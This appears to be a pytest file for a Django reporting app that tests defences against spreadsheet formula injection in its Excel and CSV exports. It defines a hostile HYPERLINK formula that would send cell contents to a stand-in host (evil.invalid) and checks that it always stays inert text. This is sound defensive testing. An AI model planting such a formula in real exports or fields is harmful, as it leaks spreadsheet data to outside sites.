"""Spreadsheet (formula) injection: a hostile name never becomes a live formula in any download.

Each export is fetched through its real page with a name that would leak the
sheet to another site if it ran: Excel cells must be string cells (data type
's') holding the name exactly, CSV cells must start with a single quote.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from stocktake.delivery.cells import csv_writer, safe_text

HOSTILE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"x")'


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, text: str = HOSTILE):
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
    hostile = [c for c in cells if c.value == text]
    assert hostile, "the hostile name is missing from the export"
    assert all(c.data_type == "s" for c in hostile)


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile_priority(db):
    """A published priority renamed to the hostile text: its name is in the dashboard, tables and reports."""
    from stocktake.architecture.models import Priority

    Priority.objects.filter(code="ae-waits").update(name=HOSTILE)
    return Priority.objects.get(code="ae-waits")


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("", ""),
        (-3, -3),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_safe_text_quotes_formula_starts_only(value, expected):
    assert safe_text(value) == expected


def test_csv_writer_keeps_negative_numbers_as_numbers():
    out = io.StringIO()
    csv_writer(out).writerow([HOSTILE, -3, -2.5, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + HOSTILE, "-3", "-2.5", "ok"]


def test_plan_workbook_strategy_name_is_text(client, db):
    from stocktake.architecture.models import Priority
    from stocktake.plans import actions

    actions.create_strategy(priority=Priority.objects.get(code="homicides"), name=HOSTILE)
    response = client.get("/plans/homicides/plan.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content)


def test_position_workbook_scheme_name_is_text(sign_in, db):
    from stocktake.incentives.models import Scheme

    first = Scheme.objects.filter(fund__code="meridia-outcomes-fund").order_by("pk").first()
    Scheme.objects.filter(pk=first.pk).update(name=HOSTILE)
    response = sign_in("duhead").get("/incentives/funds/meridia-outcomes-fund/position.xlsx")
    assert response.status_code == 200
    cells = _cells(response.content)
    _assert_no_formula(response.content)
    # money stays numbers: the position sheet's amounts are numeric cells
    assert any(c.data_type == "n" and isinstance(c.value, (int, float)) for c in cells)


def test_audit_csv_quotes_hostile_text(sign_in, db):
    from stocktake.architecture.models import Priority
    from stocktake.plans import actions

    actions.create_strategy(priority=Priority.objects.get(code="homicides"), name=HOSTILE)
    rows = _csv(sign_in("duhead").get("/accounts/audit/?format=csv&model=plans.strategy"))
    header, first = rows[0], rows[1]
    assert first[header.index("object_repr")] == "'" + HOSTILE
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_monitoring_csv_and_excel_downloads(hostile_priority, sign_in):
    client = sign_in("duhead")
    rows = _csv(client.get("/?format=csv"))
    assert any("'" + HOSTILE in row for row in rows)
    assert not any(cell.startswith("=") for row in rows for cell in row)
    _assert_no_formula(client.get("/?format=xlsx").content)


def test_monitoring_csv_keeps_negative_numbers(client, db):
    """The league table's gap to plan is negative for units ahead of plan; it stays a bare number."""
    # the public's league is of published values: August is the demo's last published month (September is validated)
    rows = _csv(client.get("/monitoring/league/homicides/?period=2026-08&format=csv"))
    negatives = [cell for row in rows[1:] for cell in row if cell.startswith("-")]
    assert negatives, "expected a negative number in the league table"
    for cell in negatives:
        float(cell)


def test_routines_report_workbook(sign_in, hostile_priority):
    from stocktake.routines.models import AssessmentRound

    rnd = AssessmentRound.objects.order_by("-date").first()
    c = sign_in("pm")
    response = c.get(f"/routines/rounds/{rnd.pk}/report.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.content)
